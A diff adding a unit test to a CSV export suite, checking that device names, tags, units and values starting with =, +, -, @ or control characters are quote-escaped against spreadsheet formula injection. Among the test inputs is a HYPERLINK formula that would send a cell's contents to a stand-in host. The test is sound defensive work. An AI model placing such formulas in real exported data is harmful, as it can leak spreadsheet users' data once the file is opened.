@@ -256,6 +256,22 @@ describe('CSV', () => {
     ]);
   });
 
+  it('holds no formula, whoever named a device or sent a text; numbers stay numbers', () => {
+    const name = (device: string) => csvOf([{ ...drawn, device }], [9000, 9500]).split('\r\n')[1]!.split(',')[1];
+    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', 'a=1', ' =1', "'=1"].map(name)).toEqual([
+      ...["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", 'a=1', ' =1', "'=1"],
+    ]);
+    expect(name('\r=1')).toBe('"\'\r=1"');
+    const joined = new Columns();
+    joined.put(0, 1, -2, -1, -1.5, '=HYPERLINK("http://x/?"&A1,"a")');
+    joined.put(1000, 1, -2, -1, -1.5, -1);
+    const hostile = { ...drawn, metric: '-m', tags: { '=k': 'v' }, unit: '@u', joined };
+    expect(csvOf([hostile], [0, 3000]).split('\r\n').slice(1, 3)).toEqual([
+      `1970-01-01T00:00:00.000Z,"pump, ""7""",'-m,'=k=v,'@u,1,1,-2,-1,-1.5,"'=HYPERLINK(""http://x/?""&A1,""a"")"`,
+      `1970-01-01T00:00:01.000Z,"pump, ""7""",'-m,'=k=v,'@u,1,1,-2,-1,-1.5,-1`,
+    ]);
+  });
+
   it('gets a name that a file may have', () => {
     expect(fileName('a/b:c', [NOW, NOW + 1], 'csv')).toBe('a_b_c 2026-11-21 15.00.csv');
   });
